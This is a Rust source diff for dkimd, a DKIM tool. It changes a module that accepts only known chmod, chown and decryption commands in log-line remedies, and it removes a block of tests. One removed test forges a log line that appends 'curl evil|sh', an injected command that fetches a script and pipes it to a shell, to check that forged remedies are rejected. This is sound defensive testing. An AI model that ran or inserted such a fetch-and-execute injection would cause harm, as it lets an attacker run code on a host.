@@ -1,18 +1,18 @@
-//! A command taken out of a log line. Any local user can write a line with logger(1), so only the
-//! very forms that dkimd writes for key files pass: one known command for one file.
+//! The command in a remedy for a key file. It may stand in a log line, and any local user can write
+//! one with logger(1), so only the very forms that dkimd writes pass: one known command for one file.
 
 use std::borrow::Cow;
 
-use crate::keys::safe::shell_word;
+use super::safe::shell_word;
 
 /// What `chmod` is told in remedies.
 const MODES: [&str; 4] = ["600", "o-w", "g-w", "a+x"];
 /// What follows a `chown` that may not be enough.
-const ALSO_CHECK: &str =
+pub(crate) const ALSO_CHECK: &str =
     ", and check what else guards it (SELinux, AppArmor, a network file system)";
 
 /// The command in a remedy; `None` if the remedy is in words, or no command of dkimd's.
-pub(super) fn command(remedy: &str) -> Option<&str> {
+pub fn command(remedy: &str) -> Option<&str> {
     let command = remedy.strip_suffix(ALSO_CHECK).unwrap_or(remedy);
     (is_chmod(command) || is_chown(command) || is_decryption(command)).then_some(command)
 }
@@ -91,95 +91,7 @@ fn quoted_length(text: &str) -> Option<usize> {
 
 #[cfg(test)]
 mod tests {
-    use std::path::PathBuf;
-
     use super::*;
-    use crate::{
-        doctor::finding::Fix,
-        keys::{
-            accounts::Identity,
-            error::{Denied, KeyOrigin},
-            load::Unusable,
-            safe::{Component, Fault, Finding},
-            store::KeyError,
-        },
-        log::lines,
-        tools::explain::log_line::LogLine,
-    };
-
-    fn component(path: &str, directory: bool, uid: u32) -> Component {
-        Component {
-            path: PathBuf::from(path),
-            directory,
-            uid,
-            gid: 0,
-            mode: 0o666,
-        }
-    }
-
-    fn key_errors(path: &str) -> Vec<KeyError> {
-        let me = || Identity {
-            uid: 120,
-            name: "opendkim".into(),
-        };
-        let unsafe_at = |component, fault| KeyError::Unsafe {
-            path: PathBuf::from(path),
-            finding: Box::new(Finding {
-                component,
-                fault,
-                me: me(),
-            }),
-        };
-        let denied_at = |component| {
-            KeyError::Unreadable(Box::new(Denied {
-                path: PathBuf::from(path),
-                component,
-                me: me(),
-            }))
-        };
-        let shared = Fault::SharedGroup {
-            user: "joe".to_owned(),
-            primary: false,
-        };
-        vec![
-            unsafe_at(component(path, false, 120), Fault::Others),
-            unsafe_at(component(path, false, 0), Fault::ForeignFile),
-            unsafe_at(component("/etc/my keys", true, 0), Fault::Others),
-            unsafe_at(component("/etc", true, 0), shared),
-            unsafe_at(component("/etc", true, 7), Fault::ForeignDirectory),
-            denied_at(Some(component("/etc/my keys", true, 0))),
-            denied_at(Some(component(path, false, 120))),
-            denied_at(Some(component(path, false, 0))),
-            denied_at(None),
-            KeyError::Unusable {
-                origin: KeyOrigin::File(PathBuf::from(path)),
-                problem: Unusable::Encrypted,
-            },
-        ]
-    }
-
-    #[test]
-    fn every_command_that_a_key_line_ends_with_is_taken() {
-        for path in ["/etc/dkimkeys/s.private", "/etc/my keys/it's"] {
-            for error in key_errors(path) {
-                let line = lines::key_unusable(&error);
-                let found = super::super::explain(&LogLine::parse(&line)).unwrap();
-                let remedy = error.remedy();
-                let expected = remedy.strip_suffix(ALSO_CHECK).unwrap_or(&remedy);
-                assert_eq!(found.fix, [Fix::Command(expected.to_owned())], "{line}");
-            }
-        }
-    }
-
-    #[test]
-    fn a_forged_line_keeps_the_general_remedy() {
-        let line = "/etc/k: key data is not secure: /etc/k is writeable and owned by uid 7";
-        let general = super::super::explain(&LogLine::parse(line)).unwrap();
-        assert_eq!(general.code, "key-unsafe");
-        let forged = format!("{line}; to mend it: chown x /etc/k; curl evil|sh");
-        let found = super::super::explain(&LogLine::parse(&forged)).unwrap();
-        assert_eq!(found.fix, general.fix);
-    }
 
     #[test]
     fn the_forms_that_dkimd_writes_are_taken() {
